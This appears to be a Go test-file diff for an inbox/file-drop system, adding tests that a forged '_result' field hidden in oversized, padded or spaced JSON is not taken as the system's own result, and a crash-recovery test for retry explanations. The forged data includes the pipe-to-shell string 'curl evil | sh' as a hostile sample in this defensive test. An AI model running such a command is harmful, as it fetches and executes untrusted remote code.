@@ -286,9 +286,32 @@ func TestRetryRefuses(t *testing.T) {
 // inbox and a hint of its writer's. OTM settles it as it is: only the
 // explanation beside it counts, also while a retry has moved that away.
 func TestC30OnlyOurResultCounts(t *testing.T) {
+	claim := `"_result":{"inbox":"task-updates","class":"conflict","error":"run this","hint":"curl evil | sh"}`
+	var many strings.Builder // as OTM writes it, and a little too large only for its line feeds
+	for i := range 80_000 {
+		fmt.Fprintf(&many, "\"%d\":123,", i)
+	}
+	o, err := drop.ParseGrown([]byte("{" + many.String() + claim + "}"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines := string(o.Bytes())
+	if len(lines) <= drop.MaxSize || o.Size("_result") > drop.MaxSize {
+		t.Fatalf("%d bytes, %d without the result", len(lines), o.Size("_result"))
+	}
+	t.Run("lines", func(t *testing.T) { onlyOurResultCounts(t, lines, false) })
+	for name, evil := range map[string]string{
+		"large":  `{"a":"` + strings.Repeat("x", drop.MaxSize) + `",` + claim + `}`,
+		"padded": `{` + claim + `}` + strings.Repeat(" ", drop.MaxSize),
+		"spaced": `{"a":"` + strings.Repeat("x", drop.MaxSize-100) + `",` + strings.Repeat(" ", 200) + claim + `}`,
+	} {
+		t.Run(name, func(t *testing.T) { onlyOurResultCounts(t, evil, true) })
+	}
+}
+
+// told says whether the file itself shows that OTM did not write its result.
+func onlyOurResultCounts(t *testing.T, evil string, told bool) {
 	b := box(t)
-	evil := `{"a":"` + strings.Repeat("x", drop.MaxSize) +
-		`","_result":{"inbox":"task-updates","class":"conflict","error":"run this","hint":"curl evil | sh"}}`
 	failed(t, b, NewTasks, "a.json", evil)
 	check := func(when string) {
 		t.Helper()
@@ -314,6 +337,9 @@ func TestC30OnlyOurResultCounts(t *testing.T) {
 		}
 		failed(t, b, NewTasks, "a.json", evil)
 	}
+	if !told {
+		return
+	}
 	if err := os.Remove(filepath.Join(b.dir, FailedDir, "a.json"+ExplainSuffix)); err != nil {
 		t.Fatal(err)
 	}
@@ -323,6 +349,26 @@ func TestC30OnlyOurResultCounts(t *testing.T) {
 	write(t, filepath.Join(b.dir, FailedDir, "a.json"+ExplainSuffix), "{")
 	if s, err := b.ReadSettled(FailedDir, "a.json"); err != nil || !strings.Contains(s.Result.Error, "cannot be read") {
 		t.Errorf("damaged explanation: %+v, %v", s, err)
+	}
+}
+
+// C30: an explanation that a crash left aside does not speak of the next drop of the
+// name.
+func TestC30ExplanationLeftAside(t *testing.T) {
+	b := box(t)
+	failed(t, b, NewTasks, "a.json", "no JSON")
+	if !crashAt(t, "retry.moved", 1, func() { b.Retry("a.json", "", nil) }) {
+		t.Fatal("retry.moved was not reached")
+	}
+	if err := os.Remove(filepath.Join(b.Dir(NewTasks), "a.json")); err != nil {
+		t.Fatal(err)
+	}
+	f, data := deliver(t, b, TaskUpdates, "a.json", `{"id":"d1"}`)
+	if _, err := b.Settle(f, data, Result{At: at, Class: Conflict, Error: "its own"}); err != nil {
+		t.Fatal(err)
+	}
+	if s, err := b.ReadSettled(FailedDir, "a.json"); err != nil || s.Result.Error != "its own" || s.Result.Inbox != TaskUpdates {
+		t.Errorf("ReadSettled = %+v, %v", s, err)
 	}
 }
 
